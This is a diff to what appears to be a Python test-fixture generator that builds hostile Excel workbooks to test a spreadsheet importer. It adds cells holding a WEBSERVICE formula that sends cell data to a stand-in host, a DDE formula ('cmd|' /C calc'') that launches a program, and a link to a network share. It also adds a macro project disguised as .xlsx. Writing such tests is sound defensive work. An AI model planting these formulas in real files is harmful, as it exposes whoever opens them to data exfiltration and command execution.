@@ -345,6 +345,32 @@ def _xlsm_macros() -> bytes:
     return PlanRows().workbook(macros=True)
 
 
+def _outward_formulas() -> bytes:
+    # Formulas that reach outside the workbook when Excel opens it (each with a cached value, the
+    # evidence of the first four follow-up rows), and an external link part to a network share.
+    outward = [Formula('_xlfn.WEBSERVICE("http://ejemplo.invalid/robo?d="&A1)', "Actas", ' t="str"'),
+               Formula('FILTERXML(_xlfn.WEBSERVICE("http://ejemplo.invalid/x"),"//a")', "Actas", ' t="str"'),
+               Formula("cmd|' /C calc'!A0", "Actas", ' t="str"'),
+               Formula("[1]Hoja1!A1", "Actas", ' t="str"')]
+    plan = PlanRows(n=8)
+    rows = [SEGUIMIENTO_HEADERS]
+    for k in range(plan.n):
+        for corte, avance in plan.reports(k):
+            evidence = outward[len(rows) - 1] if len(rows) <= len(outward) else "Actas"
+            rows.append([plan.ident(k), plan.text(k), corte, avance, "En ejecución", evidence, ""])
+    follow_up = SheetSpec("Seguimiento", sheet_xml(rows_xml(rows, styles={(r, 3): PERCENT for r in range(2, len(rows) + 1)})))
+    link = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink {_NS} {_NS_R}>'
+            '<externalBook r:id="rId1"><sheetNames><sheetName val="Hoja1"/></sheetNames></externalBook>'
+            '</externalLink>')
+    link_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                 f'<Relationship Id="rId1" Type="{_REL}/externalLinkPath" '
+                 'Target="file://servidor/compartido/metas.xlsx" TargetMode="External"/></Relationships>')
+    return xlsx([plan.plan_sheet(), follow_up, plan.parameters_sheet()],
+                extra={"xl/externalLinks/externalLink1.xml": link,
+                       "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})
+
+
 def _nul_escaped() -> bytes:
     # Excel writes control characters as _xHHHH_ escapes; NUL, BEL, ESC and DEL in names and IDs.
     plan = PlanRows(ident=lambda k: f"{k % 4 + 1}.{k // 4 + 1}_x0000_",
@@ -658,7 +684,11 @@ HOSTILE: list[Hostile] = [
     Hostile("seguimiento_muy_oculto", "el seguimiento en una hoja «muy oculta» (veryHidden)", "plan",
             _very_hidden_follow_up),
     Hostile("imagenes", "veinte imágenes incrustadas en la hoja del plan", "plan", _images),
-    Hostile("macros_xlsm", "un .xlsm con un proyecto de macros (falso)", "plan", _xlsm_macros, ".xlsm"),
+    Hostile("macros_xlsm", "un .xlsm con un proyecto de macros (falso)", "rechazo", _xlsm_macros, ".xlsm"),
+    Hostile("macros_con_extension_xlsx", "un proyecto de macros dentro de un archivo llamado .xlsx", "rechazo",
+            _xlsm_macros),
+    Hostile("formulas_hacia_afuera", "WEBSERVICE, FILTERXML, DDE (=cmd|…) y un vínculo externo a otro libro",
+            "plan", _outward_formulas),
     Hostile("nul_escapado", "caracteres NUL y de control escritos como _x0000_ en nombres e ID", "plan",
             _nul_escaped),
     Hostile("nul_crudo", "bytes NUL y de control dentro del XML (calamine los tolera; se limpian)", "cualquiera",
